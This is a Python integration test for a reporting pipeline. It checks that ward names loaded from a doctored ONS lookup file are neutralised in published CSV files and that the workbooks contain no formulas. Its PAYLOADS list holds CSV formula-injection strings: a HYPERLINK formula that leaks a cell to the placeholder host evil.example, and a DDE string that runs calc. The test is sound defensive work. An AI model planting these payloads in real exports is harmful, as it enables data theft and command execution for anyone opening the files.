"""Ward names from a reference file that carry formulas reach no published CSV as live formulas."""

from __future__ import annotations

import csv
import shutil

import pytest
from openpyxl import load_workbook

from reporting.csv_safety import FORMULA_STARTS
from reporting.publish import publish_reports
from tests.conftest import ONS_DIR
from warehouse.pipeline import ingest_files, warehouse_for_writing

pytestmark = [pytest.mark.integration, pytest.mark.xdist_group("demo")]

PERIOD, PLAN_YEAR, AREA = "2018-02", "2018-19", "E07000110"
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bearsted")', "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1"]


def _hostile_ward_lookup(folder):
    """The real ONS ward lookup with every Maidstone ward renamed to one of the payloads."""
    source = ONS_DIR / "jtrim_csv_056_WD19_LAD19_UK_LU.csv"
    with open(source, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    renamed = 0
    for row in rows[1:]:
        if row[3] == AREA:
            row[2] = PAYLOADS[renamed % len(PAYLOADS)]
            renamed += 1
    folder.mkdir(parents=True)
    path = folder / "revised_WD19_LAD19_UK_LU.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    return path, renamed


def test_formula_ward_names_are_neutralised_in_every_published_csv(demo_warehouse, tmp_path, monkeypatch):
    from warehouse.config import load_settings

    monkeypatch.setenv("CSP_DATA", str(tmp_path / "data"))
    settings = load_settings()
    settings.ensure_dirs()
    shutil.copyfile(demo_warehouse["settings"].warehouse_path, settings.warehouse_path)
    path, renamed = _hostile_ward_lookup(tmp_path / "incoming")
    assert renamed == 26  # Maidstone's 26 wards of December 2019
    with warehouse_for_writing(settings) as con:
        run = ingest_files(con, settings, [path], run_id="hostile-wards")
    assert [o.status for o in run.report.outcomes] == ["loaded"]

    publish_reports(settings.warehouse_path, settings.reports, PERIOD, PLAN_YEAR, AREA)
    folder = settings.reports / PERIOD
    csv_files = sorted(folder.rglob("*.csv"))
    assert any(p.name == "indicators.csv" for p in csv_files)
    ward_names = []
    for csv_path in csv_files:
        with open(csv_path, encoding="utf-8-sig", newline="") as handle:
            for row in csv.DictReader(handle):
                for column, value in row.items():
                    live = value and value.startswith(FORMULA_STARTS) and not _number(value)
                    assert not live, f"{csv_path.name} column {column}: live formula {value!r}"
                if row.get("area_type") == "ward":
                    ward_names.append(row["area_name"])
    assert ward_names, "no ward rows were published"
    assert set(ward_names) <= {"'" + payload for payload in PAYLOADS}
    assert {"'" + payload for payload in PAYLOADS} <= set(ward_names)
    for workbook in sorted(folder.rglob("*.xlsx")):
        book = load_workbook(workbook)
        formulas = [(sheet.title, cell.coordinate) for sheet in book for line in sheet.iter_rows() for cell in line
                    if cell.data_type == "f"]
        assert formulas == [], f"{workbook.name} holds formulas at {formulas[:5]}"


def _number(value: str) -> bool:
    try:
        float(value.replace(",", "").rstrip("%"))
        return True
    except ValueError:
        return False
